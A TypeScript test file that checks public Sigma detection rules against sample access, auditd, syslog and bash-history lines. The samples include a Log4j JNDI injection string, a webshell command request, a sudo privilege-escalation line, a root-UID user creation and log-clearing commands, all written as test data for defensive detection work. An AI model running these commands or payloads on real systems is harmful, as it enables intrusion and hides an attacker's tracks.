import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { compileMatcher, LINUX_MAPPING, parseSigma, type SigmaRule } from '@unmask/sigma';
import { describe, expect, it } from 'vitest';
import { sharedData } from '../../../../../tools/shared-data.ts';
import { TEXT_FORMATS } from '../../../src/evidence/text/index.ts';
import { readAll } from './reading.ts';

const folder = sharedData('sigma');
const FOLDERS = ['rules/linux', 'rules/web', 'rules-emerging-threats'];

function rulesIn(path: string): SigmaRule[] {
  const files = readdirSync(path, { recursive: true, encoding: 'utf8' });
  return files
    .filter((file) => file.endsWith('.yml'))
    .flatMap((file) => parseSigma(readFileSync(join(path, file), 'utf8'), file).documents)
    .filter((document) => document.kind === 'rule');
}

const audit = (type: string): string => `type=${type} msg=audit(1382980814.101:7):`;

/** A line that somebody would be worried about, and the public rule that says so. */
const WORRIES: readonly (readonly [format: string, line: string, title: string])[] = [
  [
    'access',
    `::1 - - [28/Oct/2013:17:20:14 +0100] "GET / HTTP/1.1" 200 1 "-" "\${jndi:ldap://x/a}"`,
    'Log4j RCE CVE-2021-44228 in Fields',
  ],
  [
    'access',
    '192.0.2.7 - - [28/Oct/2013:17:20:14 +0100] "POST /ui/vropspluginui/rest/services/uploadova HTTP/1.1" 200 1',
    'CVE-2021-21972 VSphere Exploitation',
  ],
  [
    'access',
    '192.0.2.7 - - [28/Oct/2013:17:20:14 +0100] "GET /irj/helper.jsp?cmd=id HTTP/1.1" 200 1',
    'Potential SAP NetViewer Webshell Command Execution',
  ],
  ['auditd', `${audit('EXECVE')} argc=2 a0="chmod" a1="777"`, 'File or Folder Permissions Change'],
  [
    'auditd',
    `${audit('SYSCALL')} exe="/usr/bin/nc" key="network_connect_4"`,
    'Linux Network Service Scanning - Auditd',
  ],
  [
    'auditd',
    `${audit('PATH')} name="/etc/audit/audit.rules"`,
    'Auditing Configuration Changes on Linux Host',
  ],
  [
    'syslog',
    'Oct 28 17:20:14 h sshd[1]: fatal: buffer_get_string: bad string',
    'Suspicious OpenSSH Daemon Error',
  ],
  ['syslog', 'Oct 28 17:20:14 h crontab[1]: (root) REPLACE (root)', 'Modifying Crontab'],
  [
    'syslog',
    'Oct 28 17:20:14 h useradd[1]: new user: name=eve, UID=0, GID=0, home=/root',
    'Privileged User Has Been Created',
  ],
  [
    'syslog',
    'Oct 28 17:20:14 h sudo: eve : TTY=pts/0 ; USER=#-1 ; COMMAND=/bin/sh',
    'Sudo Privilege Escalation CVE-2019-14287 - Builtin',
  ],
  ['bash-history', 'rm -f /var/log/syslog', 'Commands to Clear or Remove the Syslog - Builtin'],
  ['bash-history', 'history -c', 'Linux Command History Tampering'],
  [
    'web-error',
    '[Mon Oct 28 17:20:15 2013] [notice] child pid 1 exit signal Segmentation Fault (11)',
    'Apache Segmentation Fault',
  ],
  [
    'web-error',
    '2013/10/28 17:20:16 [alert] 7#8: worker process 1 exited on signal 6 (core dumped)',
    'Nginx Core Dump',
  ],
];

describe.skipIf(folder === null)('public rules', () => {
  const rules = folder === null ? [] : FOLDERS.flatMap((each) => rulesIn(join(folder, each)));
  const matcher = compileMatcher(rules, LINUX_MAPPING);

  it.for(WORRIES)('match in %s: %s', async ([format, line, title]) => {
    const { events } = await readAll(
      TEXT_FORMATS.find((each) => each.id === format)!,
      line,
    );
    const titles = events.flatMap((event) =>
      matcher.match(event).map((match) => rules[match.rule]!.title),
    );
    expect(titles).toContain(title);
  });

  it('are silent on honest lines', async () => {
    const honest: readonly (readonly [string, string])[] = [
      [
        'access',
        '::1 - - [28/Oct/2013:17:20:14 +0100] "GET /index.html HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
      ],
      ['syslog', 'Oct 28 17:20:14 h CRON[1]: (root) CMD (run-parts /etc/cron.hourly)'],
      ['auditd', `${audit('EXECVE')} argc=1 a0="ls"`],
      ['bash-history', 'ls -l'],
    ];
    for (const [format, line] of honest) {
      const { events } = await readAll(
        TEXT_FORMATS.find((each) => each.id === format)!,
        line,
      );
      expect(events).toHaveLength(1);
      expect(
        events.flatMap((event) => [...matcher.match(event)]),
        line,
      ).toEqual([]);
    }
  });
});
